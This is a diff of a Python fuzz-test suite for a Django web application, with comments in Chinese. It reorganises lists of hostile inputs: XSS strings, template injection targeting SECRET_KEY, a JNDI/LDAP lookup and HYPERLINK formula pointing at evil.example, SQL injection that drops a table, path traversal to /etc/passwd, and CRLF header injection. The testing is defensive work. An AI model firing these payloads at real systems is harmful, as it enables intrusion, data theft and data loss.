@@ -26,34 +26,30 @@ BREAKOUT = "\"'><img src=x onerror=alert(1)><!--"
 LONG, ENDLESS = "张" * 10_000, "9" * 60
 # 每一种来路有几种写法。一个地址每一种试一个写法，各地址轮着来：几百个地址下来，每个写法都试过许多遍。
 KINDS = [
-    [SCRIPT, BREAKOUT],
-    ["{{ settings.SECRET_KEY }}{% debug %}", "${jndi:ldap://evil.example/a}", '=HYPERLINK("http://evil.example")'],
+    # 在别处有意思的话：网页、模板、日志、表格、查询、路径
+    [SCRIPT, "{{ settings.SECRET_KEY }}{% debug %}", "' OR 1=1 --", BREAKOUT, '=HYPERLINK("http://evil.example")']
+    + ["${jndi:ldap://evil.example/a}", "1); DROP TABLE members_member; --", "%' ESCAPE '", "../../../etc/passwd"],
     ["\x00", "王\x00伟"],
     [LONG],
     ["²", "١٢٣", "１２３"],
     ["😀👨‍👩‍👧", "\u202e反过来\u200b"],
-    ["' OR 1=1 --", "1); DROP TABLE members_member; --", "%' ESCAPE '", "../../../etc/passwd"],
-    ["a\r\nSet-Cookie: evil=1"],
-    ["javascript:alert(1)", "//evil.example/", "https://evil.example/"],
-    ["[]", "null"],
-    ["0", "-1", "1.5"],
-    ["1e309", "NaN", ENDLESS],
-    ["2147483648", "9223372036854775807", "9223372036854775808"],
-    ["2026-02-30", "2026-13-01", "0000-00-00", "30月2日"],
-    ["99999-12-31", "9999-12-31", "2100年12月31日", "1900-01-01"],
-    ["~", "~~1", "x~1", "\x00~1", "~²"],
-    ["2026-02-30~1", "9999-12-31~1", f"2026-01-01~{'9' * 17}", f"1~{'9' * 30}"],
+    ["a\r\nSet-Cookie: evil=1", "javascript:alert(1)", "//evil.example/", "https://evil.example/"],
+    ["[]", "-1", "0", "1.5", "null"],
+    [ENDLESS, "1e309", "9223372036854775808", "NaN", "2147483648", "9223372036854775807"],
+    ["2026-02-30", "99999-12-31", "2026-13-01", "2100年12月31日", "0000-00-00", "9999-12-31", "30月2日", "1900-01-01"],
+    ["~", "2026-02-30~1", "~~1", f"1~{'9' * 30}", "x~1", f"2026-01-01~{'9' * 17}", "\x00~1", "9999-12-31~1", "~²"],
 ]
 # 一项一项单独试的：别的都照常填，这一项收下了就真的写进去。
 WORDS = [
-    [f"{SCRIPT}{BREAKOUT}😀👨‍👩‍👧\u202e反过来\u200b"],
+    [f"{SCRIPT}{BREAKOUT}😀👨‍👩‍👧\u202e反过来\u200b²\r\nSet-Cookie: evil=1", "²"],
     ["王\x00伟"],
     [LONG],
-    ["²", "a\r\nSet-Cookie: evil=1"],
     [ENDLESS],
 ]
-KEYS = [["\x00", "²"], ["-1", "2026-02-30"], ["9223372036854775808"], [ENDLESS], ["x~1", "//evil.example/"]]
+KEYS = [["\x00"], ["-1", "2026-02-30", "²"], ["9223372036854775808", ENDLESS], ["x~1", "//evil.example/"]]
 CHOICES = [[SCRIPT, "²"], ["\x00"], [ENDLESS]]  # 只能从列出的里选的，错法不多
+# 换一种数据库，答案会不同的只有这几样：存不进的字、太长的字、太大的数。
+MINDED_BY_A_DATABASE = {"王\x00伟", "\x00", LONG, ENDLESS, "9223372036854775808"}
 # 网址里该是编号的地方。
 IDS = ["0", "9223372036854775808", "9" * 100]
 NO_IDS = ["-1", "²", "٣", "1%00", "%00", "abc", "1.0", "1e3", "%F0%9F%98%80", "%FF"]
@@ -70,6 +66,7 @@ FIELDS = {
 }
 # 健康检查的 503 就是它的回答。
 OWN_5XX = {"healthz"}
+FIRST_DATABASE = connection.vendor == "sqlite"
 ADDRESSES = [row[:3] for row in rows()]
 PATTERNS = {name: pattern for name, pattern, _ in all_views(get_resolver().url_patterns)}
 
@@ -207,6 +204,11 @@ class Door:
         """One spelling of each kind: another one at the next address."""
         return [spellings[self.number % len(spellings)] for spellings in kinds]
 
+    def alone(self, field):
+        """Payloads to be tried alone in the field: on a second database those it could take otherwise."""
+        payloads = self.one_of_each(kinds_for(field))
+        return payloads if FIRST_DATABASE else [each for each in payloads if each in MINDED_BY_A_DATABASE]
+
     def client(self, **settings):
         return new_client(self.place, self.reader, **settings)
 
@@ -321,15 +323,15 @@ def test_a_form_from_elsewhere_is_refused(door):
 
 
 def parameters(door):
-    """{name: kinds of payloads to be tried alone} of every query the page's own forms and links use."""
-    page = door.page()
-    names = dict.fromkeys(door.query, KEYS)
+    """{name: its field} of every query the page's own forms and links use."""
+    page, key = door.page(), {"type": "hidden"}
+    names = dict.fromkeys(door.query, key)
     for link in page.links if page else []:
         if urlsplit(link).path in ("", door.url):
-            names |= dict.fromkeys(dict(parse_qsl(urlsplit(link).query, keep_blank_values=True)), KEYS)
+            names |= dict.fromkeys(dict(parse_qsl(urlsplit(link).query, keep_blank_values=True)), key)
     for form in page.forms if page else []:
         if form["method"] == "get" and form["action"] in ("", door.url):
-            names |= {each["name"]: kinds_for(each) for each in form["fields"]}
+            names |= {each["name"]: each for each in form["fields"]}
     return names
 
 
@@ -348,8 +350,8 @@ def rotated(names, payloads):
 @opened("GET")
 def test_hostile_queries(door):
     client = door.client()
-    for name, kinds in parameters(door).items():
-        for payload in door.one_of_each(kinds):
+    for name, field in parameters(door).items():
+        for payload in door.alone(field):
             said = f"{door.url}?{name}={payload[:40]!r}"
             check(read(client, door.url, door.query | {name: payload}), door.name, said)
 
@@ -414,12 +416,14 @@ HEADS = [
 @opened("GET")
 @on_any_database
 def test_hostile_heads(door):
-    for head in door.one_of_each(HEADS):
-        said = f"{door.name} {str(head)[:60]}"
-        response = door.client().get(door.full, **head)
+    """Heads are read before the page is: one comes from the door's reader, the next from nobody signed in, and the
+    other way round at the next address."""
+    for at, head in enumerate(door.one_of_each(HEADS), door.number):
+        reader = (door.reader, "没有登录")[at % 2]
+        said = f"{door.name} {reader} {str(head)[:60]}"
+        response = new_client(door.place, reader).get(door.full, **head)
         check(response, door.name, said)
         assert response.status_code in (200, 302, 400, 403, 404, 503), said
-        check(new_client(door.place, "没有登录").get(door.full, **head), door.name, f"没有登录 {said}")
 
 
 # ── Bodies ──
@@ -508,10 +512,11 @@ def test_hostile_fields(door):
         for each in one_of_a_kind(form["fields"]):
             if (field := each["name"]) not in base:
                 continue
-            for payload in door.one_of_each(kinds_for(each)):
+            for payload in door.alone(each):
                 send(door, base | {field: payload}, f"{name} 的 {field}={payload[:40]!r}")
-            send(door, {k: v for k, v in base.items() if k != field}, f"{name} 缺 {field}")
-            send(door, base | {field: ["a", "b", SCRIPT]}, f"{name} 的 {field} 有三个")
+            if FIRST_DATABASE:
+                send(door, {k: v for k, v in base.items() if k != field}, f"{name} 缺 {field}")
+                send(door, base | {field: ["a", "b", SCRIPT]}, f"{name} 的 {field} 有三个")
 
 
 @opened("POST")
